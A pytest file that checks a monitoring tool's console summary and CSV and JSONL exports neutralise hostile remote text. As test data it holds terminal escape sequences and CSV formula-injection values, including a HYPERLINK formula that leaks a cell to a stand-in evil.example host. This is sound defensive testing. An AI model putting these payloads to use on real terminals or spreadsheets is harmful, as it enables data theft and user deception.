"""Remote text is inert when printed or exported (issue 10, item 9): no terminal escape sequences
on the console, no formulas or control characters in CSV cells."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from cli.commands.audit import format_summary
from hallmonitor.redaction import terminal_safe
from tests.warehouse.test_export import T0, _account, _post
from warehouse.db import connect
from warehouse.export import export_posts

HOSTILE_ERROR = "HTTP 500: \x1b]0;owned\x07\x1b[2J\x1b[1;1Hall clear\r\x9b31mred\x00"


def _summary(error: str) -> dict[str, Any]:
    return {
        "run_id": "r1",
        "db_path": "w.duckdb",
        "accounts": 1,
        "fetched": 0,
        "items_new": 0,
        "items_changed": 0,
        "items_deleted": 0,
        "media_new": 0,
        "findings_new": 0,
        "findings_total": 0,
        "gaps": [{"account": "a1", "status": "gap", "reason": "http_error", "error": error}],
        "not_permitted": [],
    }


def test_audit_summary_prints_no_escape_sequences() -> None:
    printed = format_summary(_summary(HOSTILE_ERROR))
    assert not any(ord(c) < 32 and c not in "\n\t" or 0x7F <= ord(c) <= 0x9F for c in printed)
    assert "coverage gap: a1 (http_error): HTTP 500: all clearred" in printed


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b]0;title\x07text", "text"),  # OSC: set window title
        ("\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "link"),  # OSC 8 hyperlink
        ("\x1b[31mred\x1b[0m", "red"),  # CSI colours
        ("over\rwrite", "overwrite"),  # carriage return rewrites the line
        ("tab\tand\nnewline", "tab\tand\nnewline"),  # kept
        ("plain text é ✓", "plain text é ✓"),
    ],
)
def test_terminal_safe(raw: str, shown: str) -> None:
    assert terminal_safe(raw) == shown


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    path = tmp_path / "w.duckdb"
    with connect(path) as con:
        con.execute(
            "INSERT INTO districts VALUES ('wf', 'West Fargo', 'west-fargo-debh-ap', "
            "'America/Chicago', NULL, ?)",
            [T0],
        )
        _account(con, "a1", "rss", "https://news.example.org/feed.xml")
        texts = {
            "p1": '=HYPERLINK("https://evil.example/?"&A1,"click")',
            "p2": "+1 for the team",
            "p3": "-2+3",
            "p4": "@SUM(1,1)",
            "p5": "bell\x07 and \x1b[31mred\x1b[0m",
            "p6": "Ordinary post, = inside is fine",
        }
        for post_id, text in texts.items():
            _post(con, post_id, "a1", "rss", "post", f"https://x.example/{post_id}", T0, text)
    return path


def test_csv_export_neutralises_formulas_and_strips_control_characters(hostile_db: Path) -> None:
    out = io.StringIO()
    export_posts(hostile_db, "csv", out)
    rows = {r["post_id"]: r["text"] for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert rows["p1"] == '\'=HYPERLINK("https://evil.example/?"&A1,"click")'
    assert rows["p2"] == "'+1 for the team"
    assert rows["p3"] == "'-2+3"
    assert rows["p4"] == "'@SUM(1,1)"
    assert rows["p5"] == "bell and red"
    assert rows["p6"] == "Ordinary post, = inside is fine"
    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue()


def test_jsonl_export_stays_exact(hostile_db: Path) -> None:
    out = io.StringIO()
    export_posts(hostile_db, "jsonl", out)
    assert "\x1b" not in out.getvalue(), "JSON escapes control characters itself"
    assert '"=HYPERLINK(' in out.getvalue()
